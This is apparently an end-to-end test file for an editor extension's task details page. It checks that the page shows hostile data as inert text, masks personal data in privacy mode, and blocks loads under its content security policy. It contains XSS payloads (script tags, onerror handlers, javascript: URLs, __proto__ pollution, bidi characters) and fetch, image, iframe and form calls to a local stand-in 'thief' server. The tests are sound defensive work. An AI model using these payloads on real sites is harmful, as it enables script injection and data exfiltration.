import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { EditorSession } from '../../support/e2e/editorSession.ts';
import { sharedAccount } from '../../support/e2e/openSessions.ts';
import { answerEvents, putTask } from '../../support/e2e/putTask.ts';
import { closeSettings, toggleSetting } from '../../support/e2e/settingsEditor.ts';
import { TaskPage } from '../../support/e2e/taskPage.ts';
import type { TestAccount } from '../../support/server/testAccount.ts';
import { simulatedTask } from '../../support/simulation.ts';

const PRIVACY_MODE = 'taskrouter.privacyMode';
const TASK = simulatedTask('put by a test');

describe('The page of a Task with hostile data', () => {
  const resources = new AsyncDisposableStack();
  let account: TestAccount;
  let session: EditorSession;
  let page: TaskPage;
  let thief: Server;
  let evil: string;
  const stolen: string[] = [];

  before(async () => {
    account = await sharedAccount.take();
    thief = createServer((request, response) => {
      stolen.push(`${request.method ?? ''} ${request.url ?? ''}`);
      response.end();
    });
    await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
    resources.defer(() => {
      thief.close();
    });
    evil = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
    session = await EditorSession.start({
      env: account.env,
      settings: account.settings,
      continues: true,
    });
    resources.defer(() => session.close());
    page = new TaskPage(session);
  });
  after(() => resources.disposeAsync());

  const ran = () => page.frame.evaluate('globalThis.ran');

  it('shows it as text, and runs none of it', async () => {
    const markup = `<img src="${evil}/i" onerror="ran=1"><script>ran=2</script><svg/onload=ran=3>`;
    const texts = [
      markup,
      'javascript:ran=4',
      '${ran=5}{{ran=6}}',
      'command:ran',
      '\u0007\u202e\u0000',
    ];
    const deep = `${'{"d":'.repeat(500)}1${'}'.repeat(500)}`;
    const attributes = `{"__proto__":{"ran":7},"constructor":${JSON.stringify(markup)},"texts":${JSON.stringify(texts)},"deep":${deep},"long":"${'x'.repeat(1_000_000)}"}`;
    putTask(account.server, TASK, {
      attributes,
      assignment_status: markup,
      task_queue_friendly_name: markup,
      workflow_friendly_name: `</code>${markup}`,
      reason: markup,
      [markup]: markup,
      links: {
        [markup]: 'javascript:ran=8',
        toString: `${evil}/link`,
        '\u202eturned': `${evil}/\u202e`,
      },
    });
    const worker = {
      worker_name: markup,
      reservation_sid: markup,
      worker_sid: '"><b onclick=ran=9>',
    };
    answerEvents(account.server, [
      { type: markup, at: account.server.now(), description: markup, data: worker },
      { type: 'reservation.created', at: account.server.now(), data: worker },
      { type: '__proto__', at: account.server.now(), data: { __proto__: markup } },
    ]);
    await page.open(TASK, `Reservation for <img src=`);
    await page.button('Links').click();
    await session.screenshot('details-hostile');
    const text = await page.text();
    assert.ok(text.split('<script>ran=2</script>').length > 5, 'it is not shown as text');
    assert.match(text, /__proto__: 1 key/);
    assert.match(text, /long: "x{9000}/);
    assert.ok(text.includes('\\u202eturned') && text.includes(`${evil}/\\u202e`));
    assert.doesNotMatch(text, /\u202e/);
    await page.section('Links').getByText(`${evil}/\\u202e`).click();
    for (const row of ['deep: 1 key', 'texts: 5 items']) await page.row(row).click();
    await page.section('Links').getByText('javascript:').click();
    await page.frame.getByRole('textbox').fill('ran=2</script>');
    await page.shows(/constructor: "<img/);
    assert.equal(
      await page.frame.locator('main :is(script, img, a, iframe, form, [onclick])').count(),
      0,
    );
    assert.equal(await ran(), undefined);
    assert.equal(await page.frame.evaluate('({}).ran'), undefined);
    assert.deepEqual(stolen, []);
    await page.frame.getByRole('textbox').fill('');
  });

  it('masks personal data as soon as privacy mode is on, and shows it again when it is off', async () => {
    account.server.reset();
    await session.closeAll();
    const person = 'Ada ada@acme.example, +15005550199';
    const shown = /ada@acme|0199|CANARY/;
    putTask(account.server, TASK, {
      ...{ attributes: JSON.stringify({ who: person, name: 'CANARY' }), addons: '{"a":"CANARY"}' },
      ...{ assignment_status: person, reason: person, task_queue_friendly_name: person },
      links: { workspace: `https://x.example/${person}` },
    });
    const at = account.server.now();
    const data = { worker_name: person, reason: person, task_attributes: '{"a":"CANARY"}' };
    answerEvents(account.server, [
      { type: 'reservation.created', at, data },
      { type: person, at, data, description: person },
    ]);
    await page.open(TASK, `Reservation for ${person}`);
    await page.shows('name: "CANARY"');
    // Beside the page, which stays visible.
    await session.runCommand('View: New Editor Group to the Right');
    await toggleSetting(session, PRIVACY_MODE);
    await session.waitUntil('nothing of it is shown', async () => {
      const text = await page.text();
      return text.includes('•••') && !shown.test(text);
    });
    const tab = session.page.locator('.tab', { hasText: TASK.taskSid.slice(-8) });
    assert.doesNotMatch(await tab.innerText(), shown);
    assert.doesNotMatch(await page.frame.content(), shown);
    await session.screenshot('details-masked');
    await closeSettings(session);
    await toggleSetting(session, PRIVACY_MODE);
    await page.shows(`Reservation for ${person}`);
    await page.shows('name: "CANARY"');
    await session.closeAll();
    await page.open(TASK, `Reservation for ${person}`);
  });

  it('loads nothing and sends nothing, even if it is compromised', async () => {
    await page.frame.evaluate(
      `globalThis.refused = [];
       document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
         refused.push(effectiveDirective);
       });`,
    );
    const refused = (directive: string) =>
      session.waitUntil(`${directive} is refused`, async () =>
        String(await page.frame.evaluate('refused.join()')).includes(directive),
      );
    const add = (tag: string, parts: string) =>
      `{ const e = document.createElement('${tag}'); ${parts}; document.body.append(e); }`;
    for (const [directive, attempt] of [
      ['script-src-elem', add('script', "e.textContent = 'ran = 1'")],
      ['script-src-elem', add('script', `e.src = '${evil}/script'`)],
      [
        'script-src-attr',
        `${add('button', "e.setAttribute('onclick', 'ran = 2')")} document.body.lastChild.click()`,
      ],
      // Run by a timer, as scripts of a debugger may always evaluate code.
      ['script-src', "setTimeout(() => { (0, eval)('ran = 3'); })"],
      ['style-src-elem', add('style', "e.textContent = 'main { display: none }'")],
      ['img-src', add('img', `e.src = '${evil}/image'`)],
      ['connect-src', `fetch('${evil}/fetch').catch(() => undefined)`],
      ['frame-src', add('iframe', `e.src = '${evil}/frame'`)],
      ['base-uri', add('base', `e.href = '${evil}/'`)],
    ] as const) {
      await page.frame.evaluate(`refused.length = 0; ${attempt}; undefined`);
      await refused(directive);
    }
    assert.equal(await ran(), undefined);
    // The browser reports it instead of the page.
    const said = session.page.waitForEvent('console', (line) =>
      line.text().includes('form-action'),
    );
    await page.frame.evaluate(
      `${add('form', `e.action = '${evil}/form'`)} document.body.lastChild.submit()`,
    );
    await said;
    assert.deepEqual(stolen, []);
  });
});
